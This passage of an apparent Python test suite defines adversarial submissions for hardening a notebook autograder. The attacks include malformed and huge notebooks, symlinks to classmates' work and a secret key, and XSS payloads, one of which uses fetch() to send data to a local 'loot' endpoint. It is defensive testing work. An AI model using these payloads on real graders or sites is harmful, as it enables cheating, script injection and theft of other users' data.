        "job.sendall(struct.pack('!I', 1000) + b'{')\nimport time\ntime.sleep(9999)",
    ),
    _forge("eof", "nothing more", "job.shutdown(socket.SHUT_RDWR)"),
    _forge("deaf", "never read", "while True: pass", answers=GOOD, mark=5.0),
    _forge(
        "descriptors",
        "a descriptor inside a message",
        "socket.send_fds(job, [frame(b'{}')], [0])",
        answers=GOOD,
        mark=5.0,
    ),
]

# --- Notebooks that are not notebooks. --------------------------------------------------------------------


def _instead(make: Callable[[Path], object]) -> Callable[[Path], None]:
    def plant(folder: Path) -> None:
        path = folder / "01_probe.ipynb"
        path.unlink()
        make(path)

    return plant


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(500 << 20)


def _swap(make: Callable[[Path], object]) -> Callable[[Path], None]:
    """Put something else in the place of the submission's folder."""

    def plant(folder: Path) -> None:
        aside = folder.parent.parent.parent / "aside"
        aside.mkdir(exist_ok=True)
        folder.rename(aside / folder.parent.name)
        make(folder)

    return plant


def _stamp(make: Callable[[Path], object]) -> Callable[[Path], None]:
    def plant(folder: Path) -> None:
        path = folder / "timestamp.txt"
        path.unlink()
        make(path)

    return plant


def _strip(notebook: dict[str, Any], *, ids: bool) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {}
        if ids:
            del cell["id"]


WALLED = "an operating system's file, not a notebook: plain nbgrader would wait or fail on it"

NOTEBOOKS = [
    Attack(
        name="cells-deleted",
        tries="delete every cell but the answers",
        change=lambda nb: nb.update(cells=[c for c in nb["cells"] if c["id"] in ("rates", "verdict")]),
    ),
    Attack(
        name="checks-deleted",
        tries="delete the checks it would fail",
        answers=NONE,
        mark=0,
        change=lambda nb: nb.update(cells=[c for c in nb["cells"] if not c["id"].endswith("_check")]),
    ),
    Attack(
        name="cells-duplicated",
        tries="hand in every cell four times",
        change=lambda nb: nb.update(cells=nb["cells"] * 4),
    ),
    Attack(
        name="cells-reversed",
        tries="put the cells in another order",
        change=lambda nb: nb["cells"].reverse(),
    ),
    Attack(
        name="cells-retyped",
        tries="turn answers into prose and raw cells",
        change=lambda nb: [
            c.update(cell_type=t) for c, t in zip(nb["cells"], ["raw", "markdown"] * 9, strict=False)
        ],
    ),
    Attack(
        name="metadata-stripped",
        tries="strip every cell's metadata",
        change=lambda nb: _strip(nb, ids=False),
    ),
    Attack(
        name="metadata-and-ids-stripped",
        tries="strip metadata and ids: nobody can tell an answer from an added cell",
        change=lambda nb: _strip(nb, ids=True),
        mark=0,
    ),
    Attack(
        name="metadata-hostile",
        tries="metadata of the wrong shape everywhere",
        change=lambda nb: [
            c.update(metadata=m, attachments=7)
            for c, m in zip(
                nb["cells"], [None, [], 7, {"nbgrader": []}, {"nbgrader": {"grade_id": {}}}] * 9, strict=False
            )
        ],
    ),
    Attack(
        name="schema-99",
        tries="say schema_version 99 and nbformat 99",
        change=lambda nb: (
            [c["metadata"].get("nbgrader", {}).update(schema_version=99) for c in nb["cells"]],
            nb.update(nbformat=99, nbformat_minor=99),
        ),
    ),
    Attack(
        name="sources-hostile",
        tries="sources that are numbers, lists of numbers, lone surrogates and null characters",
        change=lambda nb: nb["cells"].extend(
            code_cell("", source=s) for s in (7, None, [1, "x = 1"], "\ud800", "x = '\0'", {"a": 1})
        ),
    ),
    Attack(
        name="many-cells",
        tries="100,000 cells",
        change=lambda nb: nb["cells"].extend([code_cell("1")] * 100_000),
        mark=0,
    ),
    Attack(
        name="empty-file",
        tries="hand in nothing: 0 bytes",
        plant=_instead(lambda p: p.write_bytes(b"")),
        mark=0,
    ),
    Attack(name="no-notebook", tries="hand in a folder without a notebook", plant=_instead(nothing), mark=0),
    Attack(
        name="not-json",
        tries="hand in a picture",
        plant=_instead(lambda p: p.write_bytes(b"\x89PNG\r\n" * 999)),
        mark=0,
    ),
    Attack(
        name="json-deep",
        tries="JSON nested a million deep",
        plant=_instead(lambda p: p.write_bytes(b"[" * 10**6)),
        mark=0,
    ),
    Attack(
        name="json-wide",
        tries="20 MB of empty lists, a thousandfold in memory",
        plant=_instead(lambda p: p.write_bytes(b'{"cells":[' + b"[]," * (20 << 20 >> 2) + b"[]]}")),
        mark=0,
        alone=MACHINE,
    ),
    Attack(
        name="json-other",
        tries="a list, not a notebook",
        plant=_instead(lambda p: p.write_text("[1]")),
        mark=0,
    ),
    Attack(
        name="half-a-gigabyte", tries="a notebook of 500 MB", plant=_instead(_sparse), mark=0, alone=MACHINE
    ),
    Attack(
        name="notebook-link",
        tries="a symbolic link to a classmate's notebook",
        plant=_instead(lambda p: p.symlink_to("../../victim/01_probe/01_probe.ipynb")),
        mark=0,
    ),
    Attack(
        name="notebook-pipe",
        tries="a pipe in place of the notebook",
        plant=_instead(os.mkfifo),
        mark=0,
        alone=WALLED,
    ),
    Attack(
        name="notebook-device",
        tries="a link to /dev/zero in place of the notebook",
        plant=_instead(lambda p: p.symlink_to("/dev/zero")),
        mark=0,
        alone=WALLED,
    ),
    Attack(
        name="notebook-folder",
        tries="a folder in place of the notebook",
        plant=_instead(lambda p: p.mkdir()),
        mark=0,
    ),
    Attack(
        name="folder-link",
        tries="a symbolic link to a classmate's folder",
        plant=_swap(lambda p: p.symlink_to("../victim/01_probe")),
        mark=0,
        status="failed",
        alone=WALLED,
    ),
    Attack(
        name="folder-file",
        tries="a file in place of the folder",
        plant=_swap(lambda p: p.write_text("x")),
        mark=0,
        status="failed",
        alone=WALLED,
    ),
    Attack(
        name="<img src=x onerror=pwned()>",
        tries="a student's id that is a script",
        mark=0,
        status="failed",
        alone="plain nbgrader takes the name as it is",
    ),
    Attack(
        name="stamp-pipe", tries="a pipe in place of the timestamp", plant=_stamp(os.mkfifo), alone=WALLED
    ),
    Attack(
        name="stamp-garbage",
        tries="a timestamp of garbage",
        plant=_stamp(lambda p: p.write_bytes(b"\xff" * 99)),
    ),
    Attack(
        name="stamp-zone",
        tries="a timestamp whose time zone is a path",
        plant=_stamp(lambda p: p.write_text("2026-11-02 10:00:00 /etc/shadow")),
    ),
    Attack(name="stamp-big", tries="a timestamp of 500 MB", plant=_stamp(_sparse), alone=MACHINE),
    Attack(
        name="files-beside",
        tries="files beside the notebook: a lab's name, a script's name, links and pipes",
        plant=lambda folder: (
            (folder / "checks.py").write_text("class check:\n    rates = verdict = print"),
            (folder / "numpy.py").write_text("raise SystemExit"),
            (folder / "<script>pwned()</script>.txt".replace("/", "_")).write_text(
                "<script>pwned()</script>"
            ),
            (folder / "secret.json").symlink_to("../../../secret.key"),
            os.mkfifo(folder / "pipe.csv"),
            (folder / "judgements.csv").write_text("1,2\n"),
        ),
        code="import os\nprint(sorted(os.listdir('.')))\nprint(open('judgements.csv').read(), open('secret.json').read())",
        alone=WALLED,
    ),
]

# --- Scripts for whoever looks. ---------------------------------------------------------------------------

_SCRIPT = "<script>document.title = window.pwned = 'pwned'; fetch('http://127.0.0.1:@PORT@/loot')</script>"
_IMAGE = "<img src='http://127.0.0.1:@PORT@/pixel' onerror=\"window.pwned = 'pwned'\"><svg/onload=\"window.pwned='pwned'\">"
_LINKS = "<a href=\"javascript:window.pwned='pwned'\">x</a><iframe srcdoc=\"<script>parent.pwned='pwned'</script>\"></iframe>"
_STYLE = "<style>body{display:none;background:url(http://127.0.0.1:@PORT@/css)}</style><form action='http://127.0.0.1:@PORT@/f'><button>Publish</button></form><base href='http://127.0.0.1:@PORT@/'><meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/meta'>"
INJECTION = _SCRIPT + _IMAGE + _LINKS + _STYLE

SCRIPTS = [
    Attack(
        name="inject-html",
        tries="a script in displayed HTML",
        code=f"from IPython.display import HTML, display\ndisplay(HTML({_SCRIPT!r}))",
    ),
    Attack(
        name="inject-outputs",
        tries="scripts in HTML, SVG, JavaScript, LaTeX, Markdown, widget and PDF outputs",
        code=f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
html = {INJECTION!r}
display(HTML(html), Latex(html), Markdown(html), Javascript("window.pwned = 'pwned'"))
for kind in ("image/svg+xml", "application/vnd.jupyter.widget-view+json", "application/pdf", "text/latex", "text/markdown",
             "application/javascript", "application/vnd.plotly.v1+json", "image/png", "text/html; charset=utf-7", "TEXT/HTML"):
    display({{kind: html, "text/plain": html}}, raw=True)
display({{"text/html": html, "text/plain": html}}, raw=True, metadata={{"isolated": True, "text/html": {{"isolated": True}}}})
print(html); print(html, file=__import__("sys").stderr)
html""",
    ),
    Attack(
        name="inject-exceptions",
        tries="scripts in the text, the name and the file name of an exception",
        code=f"""
text = {INJECTION!r}
kind = type(text, (Exception,), {{"__module__": text}})
exec(compile("raise kind(text)", text, "exec"))""",
    ),
    Attack(
        name="inject-when-asked",
        tries="scripts in the exception that a hidden case meets, and in answers",
        answers=GOOD
        | {
            "rates": f"def rates(*a):\n    raise ValueError({INJECTION!r})",
            "verdict": f"def verdict(score):\n    return {INJECTION!r}",
        },
        mark=0,
    ),
    Attack(
        name="inject-prose",
        tries="scripts in the hand-marked answer and in added prose, as HTML, Markdown, links and LaTeX",
        answers=GOOD
        | {
            "reflect": INJECTION
            + "\n\n[x](javascript:window.pwned='pwned') ![x](http://127.0.0.1:@PORT@/md)\n\n$$\\href{javascript:pwned}{x}"
            "\\unicode{<script>window.pwned='pwned'</script>}$$\n\n```html\n</code></pre>" + _SCRIPT + "\n```"
        },
        change=lambda nb: nb["cells"].append(
            {
                "cell_type": "markdown",
                "id": "prose",
                "metadata": {},
                "source": _IMAGE.replace("@PORT@", "9")
                + "\n\n<div onclick=x onmouseover=\"window.pwned='pwned'\" style='position:fixed;inset:0'>x</div>",
            }
        ),
    ),
    Attack(
        name="inject-source",
        tries="scripts in the source of code",
        answers=GOOD | {"rates": "'''</pre></div>" + INJECTION.replace("'", '"') + "'''\n" + RATES},
    ),
    Attack(
        name="inject-raw",
        tries="scripts in raw cells, attachments and notebook metadata",
        change=lambda nb: (
            nb["metadata"].update(
                title=_SCRIPT, widgets={"application/vnd.jupyter.widget-state+json": {"state": _SCRIPT}}
            ),
            nb["cells"].append(
                {
                    "cell_type": "raw",
                    "id": "raw",
                    "metadata": {"raw_mimetype": "text/html"},
                    "source": _SCRIPT,
                }
            ),
        ),
    ),
    Attack(
        name="slow-markdown",
        tries="prose that takes a renderer minutes",
        change=lambda nb: nb["cells"].append(
            {"cell_type": "markdown", "id": "slow", "metadata": {}, "source": "\\\\(" * 60_000}
        ),
    ),
]

ATTACKS = (*CHEATS, *VALUES, *READS, *WRITES, *TAKES, *FORGERIES, *NOTEBOOKS, *SCRIPTS)

HONEST = (
    Attack(name="victim", tries="honest", answers=GOOD | {"reflect": "canary-of-the-victim"}),
    Attack(name="honest-half", tries="honest", answers={"rates": RATES}, mark=3),
    Attack(name="honest-none", tries="honest", answers=NONE, mark=0),
    Attack(
        name="honest-noise",
        tries="honest: warnings, output to standard error, threads, files, await and its own chance",
        code="""
import warnings, sys, threading, asyncio, os
warnings.warn("careful"); print("to stderr", file=sys.stderr)
thread = threading.Thread(target=print, args=("from a thread",)); thread.start(); thread.join()
await asyncio.sleep(0)
os.makedirs("out", exist_ok=True); open("out/a.txt", "w").write("a"); import shutil; shutil.copy("out/a.txt", "out/b.txt")
import matplotlib.pyplot as plt
plt.plot(np.random.default_rng().random(5)) if "np" in dir() else None""",
    ),
)
